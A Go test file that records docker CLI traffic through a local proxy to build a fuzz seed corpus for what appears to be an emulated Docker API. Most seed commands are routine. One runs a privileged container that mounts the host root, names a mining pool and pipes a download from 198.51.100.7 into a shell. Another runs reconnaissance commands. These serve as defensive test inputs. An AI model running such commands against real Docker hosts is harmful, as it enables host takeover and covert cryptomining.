package dockerapi

import (
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"sync"
	"testing"
)

// TestCaptureSeeds rewrites the fuzz seed corpus from the real docker
// client's traffic (DOCKERAPI_CAPTURE=1): a proxy in front of the daemon
// keeps each connection's client bytes.
func TestCaptureSeeds(t *testing.T) {
	if os.Getenv("DOCKERAPI_CAPTURE") == "" {
		t.Skip("set DOCKERAPI_CAPTURE=1 to rewrite testdata/fuzz/FuzzRequests from the docker CLI")
	}
	d := start(t, "127.0.106.20", nil)
	ln, err := net.Listen("tcp", "127.0.106.21:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	dir := filepath.Join("testdata", "fuzz", "FuzzRequests")
	os.MkdirAll(dir, 0o755)
	var mu sync.Mutex
	n := 0
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				up, err := net.Dial("tcp", d.plain)
				if err != nil {
					return
				}
				defer up.Close()
				go io.Copy(c, up)
				b, _ := io.ReadAll(io.TeeReader(c, up))
				mu.Lock()
				n++
				os.WriteFile(filepath.Join(dir, fmt.Sprintf("cli-%02d", n)), fmt.Appendf(nil, "go test fuzz v1\n[]byte(%q)\n", b), 0o644)
				mu.Unlock()
			}()
		}
	}()
	host := "tcp://" + ln.Addr().String()
	for _, args := range [][]string{{"version"}, {"ps", "-a"}, {"images"}, {"info"},
		{"run", "-d", "--privileged", "-v", "/:/host", "-e", "POOL=pool.example:3333", "alpine", "sh", "-c", "chroot /host bash -c 'curl -s http://198.51.100.7/m | sh'"},
		{"exec", "webapp", "sh", "-c", "id; uname -a"}, {"pull", "busybox"}, {"logs", "db"}, {"kill", "cache"}, {"rm", "-f", "cache"},
		{"run", "--rm", "alpine", "id"}, {"inspect", "webapp"}, {"network", "ls"}, {"volume", "ls"}} {
		out, err := dockerCLI(t, nil, append([]string{"-H", host}, args...)...)
		t.Logf("%v: %v\n%s", args, err, out)
	}
}
